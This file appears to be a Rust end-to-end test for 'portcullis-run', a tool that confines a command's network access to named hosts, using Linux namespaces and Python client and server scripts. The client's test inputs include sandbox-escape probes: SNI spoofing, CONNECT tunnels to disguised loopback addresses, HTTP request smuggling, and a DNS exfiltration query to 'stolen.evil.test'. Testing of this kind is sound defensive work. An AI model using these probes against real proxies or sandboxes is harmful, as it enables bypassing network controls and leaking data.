//! Named hosts, end to end: a small internet of two network namespaces, with a server that writes down what it is asked.
//!
//! Names resolve by the machine's own hosts file, which is another one in there; nothing in the program knows of tests.

#![allow(missing_docs, reason = "a test")]
#![allow(clippy::print_stdout, reason = "a test")]
#![cfg(target_os = "linux")]

use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};

/// The two machines, joined by a cable; the first is where commands run.
const MACHINES: &str = r#"
set -e
ip link set lo up
ip link add name here type veth peer name there
unshare -n sleep 100 & other=$!
sleep 0.3
ip link set there netns $other
ip addr add 93.184.215.1/24 dev here; ip link set here up
nsenter -t $other -n bash -c 'ip link set lo up; ip addr add 93.184.215.14/24 dev there; ip link set there up; exec python3 "$0"' "$WORLD/server.py" &
server=$!
mount --bind "$WORLD/hosts" /etc/hosts
for i in $(seq 100); do [ -e "$WORLD/ready" ] && break; sleep 0.05; done
cd "$WORLD/project"
set +e
NAMED="--host good.test --host loop.test --host own.test --host private.test --host mixed.test"
"$WORLD/portcullis-run" $NAMED --read "$WORLD/client.py" -- python3 "$WORLD/client.py"
echo "ended $?"
"$WORLD/portcullis-run" --session n $NAMED -- sleep 2 & first=$!
sleep 1
"$WORLD/portcullis-run" --session n -- python3 -c 'import socket
for a in (("127.77.255.1",3128),("127.77.0.1",80),("93.184.215.14",80)):
    try: socket.create_connection(a,2); print("ESCAPED", a)
    except OSError: pass'
wait $first
"$WORLD/portcullis-run" --end n
kill $server $other
"#;

const SERVER: &str = r#"
import socketserver, threading, os
world = os.environ["WORLD"]
def note(text):
    with open(world + "/asked", "a") as f: f.write(text + "\n")
class Plain(socketserver.StreamRequestHandler):
    def handle(self):
        while True:
            line = self.rfile.readline().decode()
            if not line: return
            fields = {}
            while True:
                field = self.rfile.readline().decode().strip()
                if not field: break
                name, value = field.split(":", 1); fields[name.lower()] = value.strip()
            note("http " + fields.get("host", "?") + " " + line.split()[1])
            body = self.rfile.read(int(fields.get("content-length", 0)))
            if "/redirect" in line:
                self.wfile.write(b"HTTP/1.1 302 Found\r\nLocation: http://other.test/\r\nContent-Length: 0\r\n\r\n")
            else:
                text = b"served " + fields.get("host", "?").encode() + b" " + body
                self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(text), text))
            if fields.get("connection") == "close": return
class Secret(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.settimeout(3)
        first = self.request.recv(4096)
        if first: note("tls " + ("good" if b"good.test" in first else "other"))
        self.request.sendall(b"hello-tls")
socketserver.ThreadingTCPServer.allow_reuse_address = True
for port, kind in ((80, Plain), (443, Secret), (22, Secret)):
    threading.Thread(target=socketserver.ThreadingTCPServer(("93.184.215.14", port), kind).serve_forever).start()
open(world + "/ready", "w").close()
"#;

const CLIENT: &str = r#"
import socket, ssl, urllib.request, urllib.error
def said(name, got): print(name, "=", got)
def attempt(name, run):
    try: said(name, run())
    except Exception as error: said(name, "failed " + str(getattr(error, "code", "")))
plain = urllib.request.build_opener(urllib.request.ProxyHandler({}))
proxied = urllib.request.build_opener()
get = lambda opener, url, data=None: opener.open(url, data, timeout=5).read().decode()
attempt("direct", lambda: get(plain, "http://good.test/"))
attempt("posted", lambda: get(plain, "http://good.test/", b"body"))
attempt("proxied", lambda: get(proxied, "http://good.test/"))
attempt("unnamed by proxy", lambda: get(proxied, "http://other.test/"))
attempt("unnamed", lambda: get(plain, "http://other.test/"))
attempt("redirected", lambda: get(plain, "http://good.test/redirect"))
attempt("redirected by proxy", lambda: get(proxied, "http://good.test/redirect"))
def hello(name):
    out = ssl.MemoryBIO()
    session = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    session.check_hostname = False
    session.verify_mode = ssl.CERT_NONE
    session = session.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try: session.do_handshake()
    except ssl.SSLWantReadError: pass
    return out.read()
def tls(name, host="good.test", port=443):
    s = socket.create_connection((host, port), 5); s.sendall(hello(name)); return s.recv(100).decode() or "closed"
attempt("tls", lambda: tls("good.test"))
attempt("tls in another name", lambda: tls("other.test"))
attempt("tls in no name", lambda: tls(None))
def tunnel(target, first=None):
    s = socket.create_connection(("127.77.255.1", 3128), 5)
    s.sendall(b"CONNECT " + target.encode() + b" HTTP/1.1\r\n\r\n")
    head = s.recv(4096).decode().split(" ")[1]
    if first is None or head != "200": return head
    s.sendall(first); return s.recv(100).decode() or "closed"
attempt("tunnel", lambda: tunnel("good.test:443", hello("good.test")))
attempt("tunnel in another name", lambda: tunnel("good.test:443", hello("other.test")))
attempt("tunnel without tls", lambda: tunnel("good.test:443", b"SSH-2.0-x\r\n"))
attempt("tunnel with plain text", lambda: tunnel("good.test:80", b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")[:12])
for target in ("93.184.215.14:443", "127.0.0.1:80", "[::1]:80", "0x7f.1:80", "2130706433:80", "other.test:443", "good.test:22", "good.test.other.test:80"):
    attempt("tunnel to " + target, lambda: tunnel(target))
for host in ("loop.test", "own.test", "private.test", "mixed.test"):
    attempt("proxy to " + host, lambda: get(proxied, "http://" + host + "/"))
    attempt("straight to " + host, lambda: get(plain, "http://" + host + "/"))
def raw(text):
    s = socket.create_connection(("good.test", 80), 5); s.sendall(text); s.settimeout(3); got = b""
    try:
        while True:
            part = s.recv(4096)
            if not part: break
            got += part
    except OSError: pass
    return str(got.count(b"served")) + " served, " + (got.decode().split(" ")[1] if got else "nothing")
attempt("another host", lambda: raw(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n"))
attempt("two hosts", lambda: raw(b"GET / HTTP/1.1\r\nHost: good.test\r\nHost: other.test\r\n\r\n"))
attempt("second request", lambda: raw(b"GET /1 HTTP/1.1\r\nHost: good.test\r\n\r\nGET /2 HTTP/1.1\r\nHost: other.test\r\n\r\n"))
attempt("hidden request", lambda: raw(b"POST /1 HTTP/1.1\r\nHost: good.test\r\nContent-Length: 4\r\n\r\nbodyGET /2 HTTP/1.1\r\nHost: other.test\r\n\r\n"))
attempt("address", lambda: socket.create_connection(("93.184.215.14", 80), 3) and "connected")
def asked(server, name):
    q = b"\x01\x02\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, (server, 53)); return str(s.recv(512)[3] & 15)
attempt("name", lambda: asked("127.77.255.53", "good.test"))
attempt("secret in a name", lambda: asked("127.77.255.53", "stolen.evil.test"))
attempt("resolver outside", lambda: asked("93.184.215.14", "good.test"))
"#;

/// What the client has to print.
const EXPECTED: &[(&str, &str)] = &[
    ("direct", "served good.test "),
    ("posted", "served good.test body"),
    ("proxied", "served good.test "),
    ("unnamed by proxy", "failed 403"),
    ("unnamed", "failed "),
    ("redirected", "failed "),
    ("redirected by proxy", "failed 403"),
    ("tls", "hello-tls"),
    ("tls in another name", "closed"),
    ("tls in no name", "closed"),
    ("tunnel", "hello-tls"),
    ("tunnel in another name", "closed"),
    ("tunnel without tls", "closed"),
    ("tunnel with plain text", "HTTP/1.1 421"),
    ("tunnel to 93.184.215.14:443", "403"),
    ("tunnel to 127.0.0.1:80", "403"),
    ("tunnel to [::1]:80", "400"),
    ("tunnel to 0x7f.1:80", "403"),
    ("tunnel to 2130706433:80", "403"),
    ("tunnel to other.test:443", "403"),
    ("tunnel to good.test:22", "403"),
    ("tunnel to good.test.other.test:80", "403"),
    ("proxy to loop.test", "failed 502"),
    ("straight to loop.test", "failed "),
    ("proxy to own.test", "failed 502"),
    ("straight to own.test", "failed "),
    ("proxy to private.test", "failed 502"),
    ("straight to private.test", "failed "),
    // One of its addresses is this machine; the other one is taken.
    ("proxy to mixed.test", "served mixed.test "),
    ("straight to mixed.test", "served mixed.test "),
    ("another host", "0 served, 421"),
    ("two hosts", "0 served, nothing"),
    ("second request", "1 served, 200"),
    ("hidden request", "1 served, 200"),
    ("address", "failed "),
    ("name", "0"),
    ("secret in a name", "3"),
    ("resolver outside", "failed "),
];

/// [K5]
#[test]
fn a_command_reaches_the_hosts_that_were_named_and_no_other() {
    let works = Command::new("unshare")
        .args(["-rnm", "bash", "-c", "ip link add name here type veth peer name there && python3 -c 0"])
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|status| status.success());
    if !works {
        println!("skipped: named hosts: no network namespaces, `ip` or `python3` here");
        std::io::Write::write_all(&mut std::io::stderr(), b"skipped: named hosts, end to end\n").unwrap();
        assert!(std::env::var_os("PORTCULLIS_MUST_CONFINE").is_none(), "this machine has to confine");
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let world = std::fs::canonicalize(folder.path()).unwrap();
    for name in ["home", "project"] {
        std::fs::create_dir(world.join(name)).unwrap();
    }
    std::fs::write(world.join("server.py"), SERVER).unwrap();
    std::fs::write(world.join("client.py"), CLIENT).unwrap();
    let names = "127.0.0.1 localhost loop.test\n93.184.215.14 good.test other.test mixed.test\n93.184.215.1 own.test\n\
                 10.9.9.9 private.test\n127.0.0.1 mixed.test\n";
    std::fs::write(world.join("hosts"), names).unwrap();
    std::fs::copy(env!("CARGO_BIN_EXE_portcullis-run"), world.join("portcullis-run")).unwrap();
    std::fs::set_permissions(world.join("portcullis-run"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let done = Command::new("timeout")
        .args(["120", "unshare", "-rnm", "bash", "-c", MACHINES])
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin")
        .env("HOME", world.join("home"))
        .env("WORLD", &world)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&done.stdout);
    let told = String::from_utf8_lossy(&done.stderr);
    let mut wrong = Vec::new();
    for (name, expected) in EXPECTED {
        let line = format!("{name} = {expected}");
        if !said.lines().any(|found| found.trim_end() == line.trim_end()) {
            wrong.push(line);
        }
    }
    assert!(wrong.is_empty(), "not seen: {wrong:#?}\n{said}\n{told}");
    assert!(said.contains("ended 0") && !said.contains("ESCAPED"), "{said}\n{told}");
    let asked = std::fs::read_to_string(world.join("asked")).unwrap();
    let other = asked.lines().filter(|line| {
        !(line.starts_with("http good.test") || line.starts_with("http mixed.test") || *line == "tls good")
    });
    assert_eq!(other.collect::<Vec<_>>(), Vec::<&str>::new());
    assert!(!asked.contains(" /2"), "{asked}");
    for name in ["other.test", "stolen.evil.test"] {
        assert!(told.contains(name), "the caller hears of `{name}`: {told}");
    }
}
